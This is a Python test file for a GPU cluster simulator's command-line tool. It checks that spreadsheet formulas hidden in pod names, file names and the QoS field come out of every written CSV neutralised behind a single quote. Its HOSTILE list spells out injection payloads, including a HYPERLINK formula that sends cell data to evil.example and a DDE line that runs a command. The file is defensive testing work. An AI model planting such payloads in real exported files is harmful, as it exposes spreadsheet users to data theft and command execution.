"""Formula injection through the simulator's CSV outputs (issue 41, finding 19; figure S18).

A trace whose file name and pod names are spreadsheet formulas goes through `gpupool sim replay` (results.csv,
jobs.csv, queues.csv), `gpupool sim fill` (results.csv) and `gpupool sim generate` (a workload whose QoS column comes
from the source): no cell of any file written may start with `=`, `+`, `-`, `@`, tab or carriage return unless it is
a plain number, and every hostile value comes out behind a single quote.
"""

from __future__ import annotations

import csv
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from gpupool.protocol.csvsafe import safe_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3+cmd",
           "=1+2"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
POD_HEADER = ("name,cpu_milli,memory_mib,num_gpu,gpu_milli,gpu_spec,qos,pod_phase,creation_time,deletion_time,"
              "scheduled_time")
SIM = [sys.executable, "-m", "gpupool.cli.main", "sim"]


def _pod_list(path: Path, qos: str = "LS") -> Path:
    rows = [POD_HEADER] + [f'"{name.replace(chr(34), chr(34) * 2)}",1000,1024,1,1000,,"{qos}",Succeeded,{10 * i},'
                           f"{10 * i + 600},{10 * i}" for i, name in enumerate(HOSTILE)]
    path.write_text("\n".join(rows) + "\n")
    return path


def _sim(*args: str) -> None:
    run = subprocess.run([*SIM, *args], capture_output=True, text=True, timeout=300)
    assert run.returncode == 0, run.stdout + run.stderr


def cells(folder: Path) -> list[str]:
    """Every cell of every CSV file under `folder`."""
    return [cell for path in sorted(folder.rglob("*.csv")) for row in csv.reader(path.open(newline="")) for cell in row]


def test_hostile_names_come_out_of_every_sim_csv_neutralised(tmp_path: Path, s18: Any) -> None:
    nodes = tmp_path / "nodes.csv"
    nodes.write_text("sn,cpu_milli,memory_mib,gpu,model\nn0,64000,262144,8,A100\n")
    queues = tmp_path / "queues.yaml"
    queues.write_text("queues:\n  - name: a\n    guaranteed: {gpus: 4}\n  - name: b\n    guaranteed: {gpus: 4}\n")
    trace = tmp_path / "in"
    trace.mkdir()
    pods = _pod_list(trace / "=HYPERLINK(A1).csv", qos="@SUM(A1)")
    out = tmp_path / "out"
    _sim("replay", "--nodes", str(nodes), "--pods", str(pods), "--queues", str(queues), "--profile", "fifo",
         "--out", str(out / "replay"), "--jobs", "1", "--quiet")
    _sim("fill", "--nodes", str(nodes), "--pods", str(pods), "--out", str(out / "fill"), "--jobs", "1", "--quiet")
    _sim("generate", "--nodes", str(nodes), "--queues", str(queues), "--source", str(pods), "--out",
         str(out / "generate" / "workload.csv"), "--days", "0.01")
    written = cells(out)
    assert {p.name for p in out.rglob("*.csv")} == {"results.csv", "jobs.csv", "queues.csv", "workload.csv"}
    hostile = {*HOSTILE, "=HYPERLINK(A1)", "@SUM(A1)"}
    injected = [c for c in written if c.removeprefix("'") in hostile]
    neutralised = [c for c in injected if c.startswith("'")]
    s18.add("csv_sim", cells=len(injected), neutralised=len(neutralised))
    assert {c.removeprefix("'") for c in injected} == hostile, "every hostile value reaches some file"
    risky = [c for c in written if c.startswith(TRIGGERS) and not NUMBER.fullmatch(c)]
    assert risky == [], f"cells a spreadsheet would run: {risky[:5]}"
    assert len(neutralised) == len(injected)


def test_the_generated_workload_reads_back_as_written(tmp_path: Path) -> None:
    """Neutralising cells changes nothing the simulator reads back: names are letters and digits first."""
    nodes = tmp_path / "nodes.csv"
    nodes.write_text("sn,cpu_milli,memory_mib,gpu,model\nn0,64000,262144,8,A100\n")
    queues = tmp_path / "queues.yaml"
    queues.write_text("queues:\n  - name: a\n  - name: b\n")
    source = _pod_list(tmp_path / "source.csv")
    workload = tmp_path / "workload.csv"
    _sim("generate", "--nodes", str(nodes), "--queues", str(queues), "--source", str(source), "--out", str(workload),
         "--days", "0.01")
    _sim("replay", "--nodes", str(nodes), "--pods", str(workload), "--queues", str(queues), "--assign", "column",
         "--profile", "fifo", "--out", str(tmp_path / "out"), "--jobs", "1", "--quiet")
    rows = list(csv.DictReader((tmp_path / "out" / "queues.csv").open(newline="")))
    assert {r["queue"] for r in rows} == {"a", "b"} and sum(int(r["jobs"]) for r in rows) > 0


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("-3", "-3"), ("-0.25", "-0.25"), ("-1e-05", "-1e-05"), ("-inf", "'-inf"), ("-", "'-"), ("a=b", "a=b"),
    ("", ""), (-3, -3), (-0.5, -0.5), (None, None)])
def test_a_cell_is_quoted_only_when_a_spreadsheet_could_run_it(cell: object, written: object) -> None:
    assert safe_cell(cell) == written
